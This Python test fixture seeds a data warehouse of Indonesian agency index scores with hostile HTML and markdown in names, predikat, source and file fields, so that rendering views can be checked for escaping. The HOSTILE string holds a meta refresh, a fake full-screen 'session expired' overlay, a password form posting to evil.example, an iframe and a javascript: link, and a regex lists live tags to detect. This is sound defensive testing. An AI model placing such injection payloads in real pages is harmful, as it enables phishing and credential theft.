"""A warehouse whose text is hostile (issue 16): instansi names, kategori, provinsi, a published
predikat, a source name and a file name holding HTML and markdown that would be live if any page
rendered them unescaped (a meta refresh, a full-screen fake login, a password form, an iframe, a
markdown image and a javascript: link, all pointing at evil.example).

Published directly with etl.publish (the importer refuses a non-band predikat, and instansi names
come from the master by matching): this is the warehouse an older import, a hand-edited master or
another tool could leave behind, and what every view must still show as plain text.
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd

EVIL_HOST = "evil.example"
HOSTILE = (
    f'<meta http-equiv="refresh" content="0;url=http://{EVIL_HOST}/meta">'
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">'
    "Sesi Anda berakhir</div>"
    f'<form action="http://{EVIL_HOST}/form"><input type="password" name="sandi"></form>'
    f'<iframe src="http://{EVIL_HOST}/iframe"></iframe>'
    f" ![x](http://{EVIL_HOST}/x.png) [klik](javascript:alert(1)) **tebal** $x^2$"
)
SERANG = "kota-36.73"       # hostile name, its real levels kept (indicator views)
TANGERANG = "kota-36.71"    # hostile name and a hostile published predikat in 2023 and 2024 (domain views)
YEARS_PUBLISHED = (2023, 2024)
FILE_NAME = f'hasil<img src="http://{EVIL_HOST}/file.png">.csv'
LIVE_TAGS = r"<\s*/?\s*(meta|div|form|input|iframe|img|script|a|style|link|object|embed|svg)\b"


def hostile_master() -> pd.DataFrame:
    from etl.publish import load_master_frame

    master = load_master_frame()
    banten = master["kode_provinsi"] == "36"
    master.loc[banten, "provinsi"] = "Banten " + HOSTILE
    for iid, short in ((SERANG, "Kota Serang"), (TANGERANG, "Kota Tangerang")):
        row = master["instansi_id"] == iid
        master.loc[row, "nama"] = f"Pemerintah {short} {HOSTILE}"
        master.loc[row, "kategori"] = "Kota " + HOSTILE
    return master


def publish_hostile(root: Path) -> Path:
    """Demo levels for everyone (synthetic) + Kota Tangerang's 2023/2024 published as index and
    domains with the hostile predikat, under a source and file name that are hostile too."""
    from domain.instrument import load_registry
    from etl.demo import generate_demo_levels
    from etl.publish import Source, publish

    master = hostile_master()
    levels, master = generate_demo_levels(master, scale=1)
    mine = (levels["instansi_id"] == TANGERANG) & levels["tahun"].isin(YEARS_PUBLISHED)
    publish(root, source=Source("demo-hostile", f"Data demo SINTETIS {HOSTILE}", "demo", True, FILE_NAME),
            levels=levels[~mine], master=master, carry_previous=False)
    registry = load_registry()
    index = pd.DataFrame({"tahun": list(YEARS_PUBLISHED), "instansi_id": TANGERANG,
                          "instrument_id": [registry.for_year(y).id for y in YEARS_PUBLISHED],
                          "indeks": 3.0, "predikat": HOSTILE})
    domains = pd.DataFrame([{"tahun": y, "instansi_id": TANGERANG, "instrument_id": registry.for_year(y).id,
                             "no_domain": d.no, "nilai": 3.0}
                            for y in YEARS_PUBLISHED for d in registry.for_year(y).domains])
    publish(root, source=Source("impor-hostile", f"Impor {FILE_NAME} {HOSTILE}", "publikasi", False, FILE_NAME),
            index=index, domains=domains, master=master)
    return root
